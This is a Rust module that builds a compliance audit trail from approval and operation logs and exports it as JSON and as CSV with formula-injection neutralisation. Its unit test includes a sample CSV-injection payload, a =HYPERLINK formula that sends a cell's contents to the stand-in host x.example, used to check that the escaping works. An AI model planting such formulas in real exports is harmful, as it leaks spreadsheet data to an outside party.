//! The audit trail for compliance: who approved which change set, who overrode the approval
//! policy and why, and every push and rollback with the fields it sent — merged from the
//! approvals log and the op log, oldest first, exportable as CSV and JSON.
//!
//! It deliberately records nothing itself: both logs are written by the operations they
//! describe, and the trail is only a view of them.

use serde::{Deserialize, Serialize};

use pi_approvals::Record;
use pi_engine::error::Result;
use pi_engine::oplog::{self, Actor, FieldWrite, OpEntry, OpKind};
use pi_engine::workspace::Workspace;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AuditKind {
    Approval,
    Override,
    Push,
    Rollback,
    /// The plan proposed for review: the pull request's link.
    Proposal,
}

/// One event of the trail.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct AuditEvent {
    /// RFC 3339.
    pub at: String,
    pub kind: AuditKind,
    /// `Name <email>`, or `auto-sync`.
    pub actor: String,
    /// The change-set hash an approval or override is bound to.
    pub change: Option<String>,
    pub summary: String,
    /// The approval's comment or the override's reason.
    pub note: Option<String>,
    /// For a push or rollback: every field written, with its value before and after.
    pub sent: Vec<FieldWrite>,
}

/// The trail of the workspace's plan, oldest first.
pub fn trail(ws: &Workspace) -> Result<Vec<AuditEvent>> {
    let mut events: Vec<AuditEvent> = pi_approvals::records(&ws.repo, &ws.names)?
        .into_iter()
        .map(from_record)
        .collect();
    events.extend(
        oplog::entries(&ws.repo, &ws.names.oplog_ref())?
            .into_iter()
            .filter_map(from_entry),
    );
    // Stable: events at the same instant keep approvals before the push they allowed.
    events.sort_by_key(|e| instant(&e.at));
    Ok(events)
}

fn instant(at: &str) -> Option<chrono::DateTime<chrono::Utc>> {
    chrono::DateTime::parse_from_rfc3339(at)
        .ok()
        .map(|t| t.to_utc())
}

/// A push (also one that failed), a rollback or a push let through with validation errors of
/// the op log; `None` for the other entries.
fn from_entry(e: OpEntry) -> Option<AuditEvent> {
    let kind = match e.kind {
        OpKind::Push | OpKind::PushFailed => AuditKind::Push,
        OpKind::Rollback => AuditKind::Rollback,
        OpKind::ValidationOverride => AuditKind::Override,
        OpKind::Proposed => AuditKind::Proposal,
        _ => return None,
    };
    let note = pi_engine::push::override_reason(&e).map(str::to_owned);
    let summary = match &note {
        Some(_) => e
            .summary
            .rsplit_once(pi_engine::push::OVERRIDE_REASON)
            .map_or(e.summary.clone(), |(s, _)| s.to_owned()),
        None => e.summary,
    };
    Some(AuditEvent {
        at: e.at,
        kind,
        actor: actor(&e.actor),
        change: None,
        summary,
        note,
        sent: e.writes,
    })
}

fn from_record(record: Record) -> AuditEvent {
    match record {
        Record::Approval(a) => AuditEvent {
            at: a.at,
            kind: AuditKind::Approval,
            actor: format!("{} <{}>", a.approver.name, a.approver.email),
            summary: format!(
                "Approved {} {}{}",
                a.change.ops.len(),
                if a.change.ops.len() == 1 {
                    "operation"
                } else {
                    "operations"
                },
                match (&a.signature, &a.via) {
                    (Some(_), _) => " (signed)".to_owned(),
                    (None, Some(via)) => format!(" (a review: {via})"),
                    (None, None) => String::new(),
                }
            ),
            change: Some(a.change.hash),
            note: a.comment,
            sent: Vec::new(),
        },
        Record::Override(o) => AuditEvent {
            at: o.at,
            kind: AuditKind::Override,
            actor: format!("{} <{}>", o.by.name, o.by.email),
            summary: format!("Pushed without the approvals: {}", o.missing),
            change: Some(o.change.hash),
            note: Some(o.reason),
            sent: Vec::new(),
        },
    }
}

fn actor(a: &Actor) -> String {
    match a {
        Actor::Person { name, email } => format!("{name} <{email}>"),
        Actor::Targetprocess { .. } => "Targetprocess".to_owned(),
        Actor::AutoSync => "auto-sync".to_owned(),
    }
}

/// The trail as JSON (an array of events).
pub fn to_json(events: &[AuditEvent]) -> String {
    serde_json::to_string_pretty(events).unwrap_or_else(|_| "[]".to_owned())
}

/// The trail as CSV (RFC 4180): `at,kind,actor,change,summary,note,sent`, one row per event;
/// `sent` lists the written fields as `name: field before → after`, separated by `; `.
pub fn to_csv(events: &[AuditEvent]) -> String {
    let mut out = String::from("at,kind,actor,change,summary,note,sent\r\n");
    for e in events {
        let kind = serde_json::to_value(e.kind)
            .ok()
            .and_then(|v| v.as_str().map(str::to_owned))
            .unwrap_or_default();
        let sent: Vec<String> = e.sent.iter().map(write_text).collect();
        let row = [
            e.at.as_str(),
            &kind,
            &e.actor,
            e.change.as_deref().unwrap_or(""),
            &e.summary,
            e.note.as_deref().unwrap_or(""),
            &sent.join("; "),
        ];
        let cells: Vec<String> = row.iter().map(|c| csv_cell(c)).collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

/// One written field in words: `tp:123 "name": Effort 13 → 21`, `… created`, `… deleted`.
pub fn write_text(w: &FieldWrite) -> String {
    match w.field {
        Some(f) => format!(
            "{} \"{}\": {} {} → {}",
            w.entity,
            w.name,
            f.label(),
            w.before,
            w.after
        ),
        None if w.before == pi_model::merge::FieldValue::Missing => {
            format!("{} \"{}\": created", w.entity, w.name)
        }
        None => format!("{} \"{}\": deleted", w.entity, w.name),
    }
}

/// One CSV cell: a text a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`,
/// a tab or a carriage return — git user names, approval comments and override reasons are
/// typed by people) gets a leading `'`, so that it shows as text; then RFC 4180 quoting.
fn csv_cell(text: &str) -> String {
    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(actor: &str, note: &str) -> AuditEvent {
        AuditEvent {
            at: "2026-03-01T10:00:00Z".into(),
            kind: AuditKind::Override,
            actor: actor.into(),
            change: Some("sha256:ab".into()),
            summary: "Pushed without the approvals: 0 of 1".into(),
            note: Some(note.into()),
            sent: Vec::new(),
        }
    }

    fn entry(kind: OpKind, summary: &str) -> OpEntry {
        OpEntry {
            id: format!("{kind:?}-1772359200-abc"),
            kind,
            actor: Actor::Person {
                name: "Jane Doe".into(),
                email: "jane@example.com".into(),
            },
            at: "2026-03-01T10:00:00Z".into(),
            summary: summary.into(),
            writes: Vec::new(),
            created: Vec::new(),
            conflicts: Vec::new(),
        }
    }

    #[test]
    fn a_failed_push_is_in_the_trail_as_a_push_and_a_pull_is_not() {
        let failed = from_entry(entry(OpKind::PushFailed, "Push failed: refused")).unwrap();
        assert_eq!(failed.kind, AuditKind::Push);
        assert_eq!(failed.summary, "Push failed: refused");
        assert_eq!(failed.actor, "Jane Doe <jane@example.com>");
        let rollback = from_entry(entry(OpKind::Rollback, "Rolled back")).unwrap();
        assert_eq!(rollback.kind, AuditKind::Rollback);
        assert!(from_entry(entry(OpKind::Pull, "Pulled")).is_none());
    }

    #[test]
    fn a_push_let_through_with_validation_errors_is_an_override_with_its_reason() {
        let summary = format!(
            "Push allowed with 1 validation error (first: effort 30 is above 20){}agreed at the PO sync",
            pi_engine::push::OVERRIDE_REASON
        );
        let e = from_entry(entry(OpKind::ValidationOverride, &summary)).unwrap();
        assert_eq!(e.kind, AuditKind::Override);
        assert_eq!(
            e.summary,
            "Push allowed with 1 validation error (first: effort 30 is above 20)"
        );
        assert_eq!(e.note.as_deref(), Some("agreed at the PO sync"));
        assert_eq!(e.actor, "Jane Doe <jane@example.com>");
    }

    #[test]
    fn formula_cells_are_neutralised_and_still_quoted() {
        let csv = to_csv(&[event(
            "=HYPERLINK(\"http://x.example/?\"&A1,\"open\") <a@b.c>",
            "+1, @SUM(A1:A9)",
        )]);
        let row = csv.lines().nth(1).unwrap_or_default();
        assert_eq!(
            row,
            "2026-03-01T10:00:00Z,override,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\") <a@b.c>\",sha256:ab,Pushed without the approvals: 0 of 1,\"'+1, @SUM(A1:A9)\","
        );
        for (raw, cell) in [
            ("-2+3", "'-2+3"),
            ("@cmd", "'@cmd"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("Jane Doe <j@x.example>", "Jane Doe <j@x.example>"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(raw), cell, "{raw:?}");
        }
    }
}
